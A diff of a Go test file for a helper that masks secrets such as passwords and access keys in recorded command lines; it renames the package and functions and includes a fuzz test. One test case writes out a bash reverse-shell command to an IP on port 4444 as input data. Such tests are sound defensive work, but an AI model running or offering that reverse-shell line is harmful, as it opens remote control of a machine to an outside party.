@@ -1,18 +1,12 @@
-package kernel
+package cmdmask
 
 import (
 	"strings"
 	"testing"
-
-	"github.com/testudo-sec/testudo/detect"
 )
 
 func TestCommandLinesAreMasked(t *testing.T) {
-	set, err := detect.Builtin()
-	if err != nil {
-		t.Fatal(err)
-	}
-	m := newMasker([]string{"--door-code"}, set.Redact)
+	m := New([]string{"--door-code"}, func(s string) string { return strings.ReplaceAll(s, "AKIAIOSFODNN7ABCDEFG", "[redacted]") })
 	for _, c := range []struct {
 		args []string
 		want string
@@ -41,7 +35,7 @@ func TestCommandLinesAreMasked(t *testing.T) {
 		{[]string{"bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}, "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
 		{[]string{"aws", "AKIAIOSFODNN7ABCDEFG"}, ""}, // by its looks
 	} {
-		got := m.line(c.args, false)
+		got := m.Line(c.args, false)
 		if c.want == "" {
 			if strings.Contains(got, c.args[1]) {
 				t.Errorf("%q is recorded as %q", c.args, got)
@@ -55,24 +49,24 @@ func TestCommandLinesAreMasked(t *testing.T) {
 			t.Errorf("%q tells a secret: %q", c.args, got)
 		}
 	}
-	if got := m.line([]string{"x", "--password", "hun"}, true); got != "x --password …" {
+	if got := m.Line([]string{"x", "--password", "hun"}, true); got != "x --password …" {
 		t.Errorf("what was cut is recorded as %q", got)
 	}
-	if got := m.line([]string{strings.Repeat("a", 100<<10)}, false); len(got) > maxRecorded+8 {
+	if got := m.Line([]string{strings.Repeat("a", 100<<10)}, false); len(got) > MaxLine+8 {
 		t.Errorf("%d bytes are recorded", len(got))
 	}
 }
 
 func FuzzMask(f *testing.F) {
-	m := newMasker(nil, nil)
+	m := New(nil, nil)
 	f.Add("curl -H 'Authorization: x' https://a:b@c/?d=e&token=f")
 	f.Add("mysql -p --password= a=b :// pass: \"' `")
 	f.Fuzz(func(t *testing.T, line string) {
-		if got := m.line(strings.Split(line, " "), false); len(got) > maxRecorded+8 {
+		if got := m.Line(strings.Split(line, " "), false); len(got) > MaxLine+8 {
 			t.Fatalf("%d bytes", len(got))
 		}
 		if secret := "s3cr3tv4lu3"; !strings.Contains(line, secret) {
-			if got := m.line([]string{"app", line, "--password=" + secret}, false); strings.Contains(got, secret) {
+			if got := m.Line([]string{"app", line, "--password=" + secret}, false); strings.Contains(got, secret) {
 				t.Fatalf("%q tells the secret", got)
 			}
 		}
